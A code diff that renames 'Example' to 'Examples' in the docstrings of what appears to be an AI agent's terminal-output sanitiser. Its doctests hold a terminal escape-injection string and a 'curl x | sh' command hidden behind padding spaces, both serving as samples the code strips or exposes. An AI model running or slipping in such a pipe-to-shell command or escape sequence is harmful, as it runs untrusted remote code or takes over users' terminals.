@@ -12,7 +12,7 @@ Nothing the model or a tool writes is interpreted: it is printed as a rich ``Tex
 other control characters removed (so no colour, cursor move, title change or
 hyperlink a model wrote reaches the terminal).
 
-Example:
+Examples:
     >>> import io
     >>> from rich.console import Console
     >>> from deputy_shiny.events import TextEvent
@@ -78,7 +78,7 @@ ARGUMENT_CHARS = 200
 def terminal_safe(text: str) -> str:
     """``text`` with escape sequences and control characters removed (newline and tab kept).
 
-    Example:
+    Examples:
         >>> terminal_safe("\\x1b]0;pwned\\x07a\\x1b[2Jb\\rc\\u202ed")
         'abcd'
     """
@@ -102,7 +102,7 @@ def visible_blanks(text: str) -> Text:
     and any blank other than a space (tab, no-break, zero-width...) as its code, both in
     reverse video: padding cannot push what follows off the screen or hide in plain sight.
 
-    Example:
+    Examples:
         >>> visible_blanks("echo hi" + " " * 3000 + "; curl x | sh").plain
         'echo hi⟨3000 blanks⟩; curl x | sh'
         >>> visible_blanks("a\u00a0b").plain
@@ -126,7 +126,7 @@ def visible_blanks(text: str) -> Text:
 def arguments_text(arguments: dict[str, Any], limit: int = ARGUMENT_CHARS) -> str:
     """A call's arguments as compact JSON, cut to ``limit`` characters.
 
-    Example:
+    Examples:
         >>> arguments_text({"path": "a.txt", "content": "x" * 10}, limit=30)
         '{"path": "a.txt", "content": …'
     """
@@ -137,7 +137,7 @@ def arguments_text(arguments: dict[str, Any], limit: int = ARGUMENT_CHARS) -> st
 def output_excerpt(output: str, lines: int = TOOL_OUTPUT_LINES) -> str:
     """The first ``lines`` lines of a tool's output, saying how many more there are.
 
-    Example:
+    Examples:
         >>> output_excerpt("1\\n2\\n3\\n4", lines=2)
         '1\\n2\\n… 2 more lines'
     """
@@ -151,7 +151,7 @@ def output_excerpt(output: str, lines: int = TOOL_OUTPUT_LINES) -> str:
 def usage_line(usage: AgentUsage) -> str:
     """The run's usage in one line.
 
-    Example:
+    Examples:
         >>> usage_line(AgentUsage(requests=2, tool_calls=1, input_tokens=1200, output_tokens=34))
         '2 requests · 1 tool call · 1,234 tokens (1,200 in, 34 out) · cost $0.00'
     """
